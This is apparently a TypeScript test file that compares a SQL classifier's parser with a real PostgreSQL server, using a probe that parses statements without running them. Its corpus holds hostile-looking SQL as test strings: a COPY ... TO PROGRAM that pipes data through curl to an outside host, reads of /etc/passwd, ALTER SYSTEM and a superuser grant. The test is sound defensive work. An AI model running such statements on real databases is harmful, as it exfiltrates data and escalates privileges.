/**
 * Differential test: the classifier (libpg-query, PostgreSQL 18's grammar) and
 * a real PostgreSQL server (Debian's, 15 here) must agree on whether each text
 * parses. The server is asked without executing anything: the text is sent
 * as `SELECT 1/0; <text>` in one simple Query message. PostgreSQL parses the
 * whole string before executing any of it, so a grammar error in <text> comes
 * back as an error other than division_by_zero, and a text that parses never
 * runs (execution stops at 1/0). COPY ... PROGRAM, ALTER SYSTEM and friends in
 * the corpus are therefore only parsed, never executed.
 */
import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import pg from 'pg';
import { startPostgres, type PgServer } from '../../../devenv/postgres.ts';
import { loadSqlParser, SqlClassifier } from '../../../sidecar/postgres/classify.ts';

const DIVISION_BY_ZERO = '22012';

const CORPUS = [
  'SELECT 1', 'SELECT', 'TABLE t', 'VALUES (1, 2)', "SELECT 'DROP TABLE x'", '/* DROP TABLE t */ SELECT 1',
  'SELECT * FROM "Weird Table"', 'SELECT * FROM t FOR UPDATE', 'SELECT * FROM t FOR NO KEY UPDATE SKIP LOCKED',
  'WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d', 'WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r) SELECT * FROM r',
  'SELECT * FROM (WITH s AS (SELECT 1) SELECT * FROM s) a', 'SELECT x FROM a UNION SELECT y FROM b EXCEPT SELECT z FROM c',
  'SELECT * FROM a, LATERAL (SELECT * FROM b WHERE b.id = a.id) l', "SELECT pg_read_file('/etc/passwd')",
  "SELECT pg_catalog.set_config('role', 'admin', false)", "SELECT * FROM dblink('h', 'q') AS t(a int)",
  'SELECT count(*) FILTER (WHERE x > 1) OVER (PARTITION BY y ORDER BY z) FROM t', 'SELECT ARRAY(SELECT 1)', "SELECT E'a\\'b', $$x$$, U&'d\\0061t', B'101', X'1F'",
  "INSERT INTO t (a) VALUES (1) ON CONFLICT (a) DO UPDATE SET b = EXCLUDED.b", 'INSERT INTO t SELECT * FROM u', 'UPDATE t SET a = 1 WHERE id = 2 RETURNING *',
  'UPDATE t SET a = s.a FROM s WHERE t.id = s.id', 'DELETE FROM t USING u WHERE t.uid = u.id', 'DELETE FROM t WHERE CURRENT OF c',
  'MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET v = s.v WHEN NOT MATCHED THEN INSERT VALUES (s.id, s.v)',
  'TRUNCATE a, b RESTART IDENTITY', 'SELECT * INTO n FROM t', 'CREATE TABLE x AS SELECT * FROM t', 'CREATE MATERIALIZED VIEW mv AS SELECT 1',
  'EXPLAIN DELETE FROM t', 'EXPLAIN ANALYZE DELETE FROM t WHERE id = 1', 'EXPLAIN (ANALYZE, BUFFERS, FORMAT JSON) SELECT 1',
  'PREPARE p (int) AS DELETE FROM t WHERE id = $1', 'EXECUTE p(1)', 'DEALLOCATE p', 'DEALLOCATE ALL',
  'COPY t TO STDOUT', 'COPY t FROM STDIN WITH (FORMAT csv)', "COPY t TO PROGRAM 'curl -d @- http://x'", "COPY t FROM PROGRAM 'cat /etc/passwd'",
  "COPY (SELECT * FROM t) TO '/tmp/x.csv'", 'COPY (DELETE FROM t RETURNING *) TO STDOUT',
  "DO $$ BEGIN PERFORM 1; END $$", "DO LANGUAGE plpgsql 'BEGIN NULL; END'", "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'",
  'CREATE OR REPLACE PROCEDURE p() LANGUAGE sql BEGIN ATOMIC DELETE FROM t; END', 'CALL p()', 'DROP FUNCTION IF EXISTS f(int)',
  'SET ROLE admin', "SET ROLE 'admin'", 'SET LOCAL ROLE NONE', 'SET SESSION AUTHORIZATION DEFAULT', 'RESET ROLE', 'RESET ALL',
  "SET search_path = 'a', public", 'SET TRANSACTION READ ONLY', 'SHOW ALL', 'DISCARD ALL', 'LISTEN ch', "NOTIFY ch, 'x'", 'UNLISTEN *',
  "ALTER SYSTEM SET archive_command = 'x'", 'ALTER SYSTEM RESET ALL', 'VACUUM (FULL, ANALYZE) t', 'ANALYZE t (a)', 'CHECKPOINT', "LOAD 'x'",
  'CREATE EXTENSION IF NOT EXISTS dblink', 'CREATE DATABASE d2', 'DROP DATABASE IF EXISTS d2', 'REINDEX TABLE t', 'CLUSTER t USING i',
  'CREATE TABLE t2 (id int primary key, u int references t(id), d text default now()::text)', 'ALTER TABLE t ADD COLUMN c int',
  'ALTER TABLE t RENAME TO t3', 'DROP TABLE a.b, c CASCADE', 'CREATE INDEX CONCURRENTLY i ON t (lower(b))', 'CREATE VIEW v AS SELECT * FROM t',
  'CREATE TRIGGER trg AFTER INSERT ON t FOR EACH ROW EXECUTE FUNCTION f()', "COMMENT ON TABLE t IS 'x'", 'CREATE SEQUENCE s',
  'GRANT SELECT ON t TO bob', 'REVOKE ALL ON ALL TABLES IN SCHEMA public FROM bob', 'GRANT admin TO bob', "CREATE ROLE r LOGIN PASSWORD 'x'",
  "ALTER ROLE bob WITH SUPERUSER", 'DROP ROLE bob', 'CREATE POLICY p ON t USING (true)', 'ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO bob',
  'BEGIN', 'START TRANSACTION ISOLATION LEVEL SERIALIZABLE', 'COMMIT', 'ROLLBACK', 'SAVEPOINT s1', 'RELEASE SAVEPOINT s1', 'ROLLBACK TO s1',
  "PREPARE TRANSACTION 'x'", 'DECLARE c CURSOR WITH HOLD FOR SELECT 1', 'FETCH 10 FROM c', 'MOVE NEXT IN c', 'CLOSE c',
  'LOCK TABLE t IN ACCESS EXCLUSIVE MODE NOWAIT', 'SELECT 1; SELECT 2', "SELECT 'a' 'b'", 'SELECT 1 AS "select"', 'SELECT "from" FROM "where"',
  // not valid SQL
  'SELECT FROM WHERE', 'DELET FROM t', "SELECT 'unterminated", 'SELECT (1', 'SELECT 1 +', 'INSERT INTO', 'UPDATE t SET', 'CREATE TABLE (a int)',
  'SELECT * FROM t WHERE', 'WITH d AS (DELETE FROM t) ', 'EXPLAIN', 'COPY t TO PROGRAM', 'SELECT $$unterminated', 'SELECT 1 LIMIT ALL ALL',
  'DROP', "SELECT 'a' 'b' 'c' FROM", 'GRANT ON t TO bob', 'SET ROLE', 'SELECT * FROM t FOR', 'SELECT 1 1', 'SELECT 0x', 'SELECT 1_',
];

/** Grammar added after PostgreSQL 15 (the libpg-query grammar is 18's): the classifier accepts them, a 15 server does not. */
const NEWER_GRAMMAR = [
  'SELECT 0x1F', 'SELECT 1_000', 'MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE RETURNING *',
  "SELECT * FROM JSON_TABLE('[]', '$[*]' COLUMNS (a int PATH '$.a')) jt", 'UPDATE t SET a = 1 RETURNING old.a, new.a',
];

/**
 * Server errors that mean "grammar newer than this server" (PostgreSQL 16 made
 * the subquery alias optional): accepted only in the safe direction, the
 * classifier parsing what an older server rejects.
 */
const NEWER_GRAMMAR_ERRORS: { sinceMajor: number; message: RegExp }[] = [
  { sinceMajor: 16, message: /subquery in FROM must have an alias/ },
  { sinceMajor: 16, message: /trailing junk after numeric literal/ },
];

let server: PgServer;
let client: pg.Client;
let serverMajor = 0;

before(async () => {
  await loadSqlParser();
  server = await startPostgres();
  client = new pg.Client({ connectionString: server.url(), connectionTimeoutMillis: 10_000, query_timeout: 10_000 });
  await client.connect();
  serverMajor = Number((await client.query('SHOW server_version_num')).rows[0].server_version_num) / 10000 | 0;
});

after(async () => {
  await client?.end().catch(() => undefined);
  await server?.stop();
});

/** true when the server's parser accepts `text` (nothing is executed). */
async function serverParses(text: string): Promise<{ ok: boolean; code?: string; message?: string }> {
  try {
    await client.query(`SELECT 1/0;\n${text}`);
    throw new Error('SELECT 1/0 did not fail: the probe is broken');
  } catch (e) {
    const err = e as { code?: string; message?: string };
    if (err.code === DIVISION_BY_ZERO) return { ok: true };
    if (typeof err.code !== 'string') throw e;
    return { ok: false, code: err.code, message: err.message };
  }
}

/** Prefixes at token boundaries: many invalid texts (and some valid ones) from each corpus statement. */
function truncations(sql: string): string[] {
  const out: string[] = [];
  for (let i = 1; i < sql.length; i++) if (/[\s(),;]/.test(sql[i]!)) out.push(sql.slice(0, i));
  return out;
}

describe('differential: classifier vs PostgreSQL parser', () => {
  const classifier = new SqlClassifier({ cacheEntries: 0 });
  const parses = (t: string) => classifier.classifySync(t).request.statements.every((s) => s.class !== 'unparseable' || s.command === 'EXECUTE');

  it('the probe never executes the statement', async () => {
    await client.query('CREATE TEMP TABLE probe_canary (a int)');
    assert.equal((await serverParses('DROP TABLE probe_canary')).ok, true);
    assert.equal((await client.query('SELECT count(*)::int AS n FROM probe_canary')).rows[0].n, 0); // still exists
  });

  it('agrees on every corpus statement and every truncation of it', async () => {
    const disagreements: string[] = [];
    let checked = 0;
    let gaps = 0;
    const texts = new Set<string>();
    for (const sql of CORPUS) {
      texts.add(sql);
      for (const t of truncations(sql)) texts.add(t);
    }
    for (const t of texts) {
      const server = await serverParses(t);
      const ours = parses(t);
      checked++;
      const versionGap = !server.ok && ours && NEWER_GRAMMAR_ERRORS.some((g) => serverMajor < g.sinceMajor && g.message.test(server.message ?? ''));
      if (versionGap) gaps++;
      else if (server.ok !== ours) disagreements.push(`${JSON.stringify(t)}: server ${server.ok ? 'parses' : `rejects (${server.code} ${server.message})`}, classifier ${ours ? 'parses' : 'rejects'}`);
    }
    assert.ok(checked > 500, `only ${checked} texts checked`);
    assert.ok(gaps < 10, `${gaps} texts only differ by server version`);
    assert.deepEqual(disagreements, [], `${disagreements.length} of ${checked} texts disagree`);
  });

  it('grammar newer than the server: the classifier accepts it, so it never turns a valid statement into UNPARSEABLE', async () => {
    for (const t of NEWER_GRAMMAR) {
      assert.equal(parses(t), true, t);
      const server = await serverParses(t);
      if (serverMajor >= 18) assert.equal(server.ok, true, `${t}: ${server.message}`);
    }
  });
});
